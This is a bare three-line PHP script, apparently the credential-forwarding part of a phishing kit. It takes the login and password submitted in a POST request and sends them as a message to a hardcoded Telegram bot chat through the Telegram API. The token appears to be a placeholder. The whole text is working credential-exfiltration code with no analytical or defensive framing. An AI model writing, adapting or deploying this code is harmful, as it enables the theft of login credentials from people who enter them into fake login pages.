<?php
$msg = "Login: " . $_POST['login'] . " Pass: " . $_POST['password'];
file_get_contents("https://api.telegram.org/bot123456:AAE-example/sendMessage?chat_id=42&text=" . urlencode($msg));
